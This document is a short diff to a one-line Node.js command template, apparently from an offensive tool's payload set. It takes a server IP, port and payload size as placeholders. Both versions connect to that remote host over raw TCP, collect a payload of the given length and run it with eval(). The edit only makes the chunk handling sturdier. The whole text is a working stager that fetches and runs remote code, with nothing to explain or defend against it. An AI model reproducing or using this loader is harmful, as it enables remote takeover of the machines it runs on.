@@ -1 +1 @@
-node -e 'const net = require("net"); const len = {{PAYLOAD_SIZE}}; let b = Buffer.alloc(0); const client = new net.Socket(); client.connect({{SERVER_PORT}}, "{{SERVER_IP}}", () => {}); client.on("data", (chunk) => {b = Buffer.concat([b, chunk]); if (b.length == len) {client.end(); eval(b.toString());}});'
+node -e 'const net = require("net"); const len = {{PAYLOAD_SIZE}}; const chunks = []; let got = 0; const client = new net.Socket(); client.connect({{SERVER_PORT}}, "{{SERVER_IP}}", () => {}); client.on("data", (chunk) => {if (got >= len) {return;} chunks.push(chunk); got += chunk.length; if (got >= len) {client.end(); eval(Buffer.concat(chunks, got).subarray(0, len).toString());}}); client.on("end", () => {if (got < len) {console.error("Incomplete payload");}});'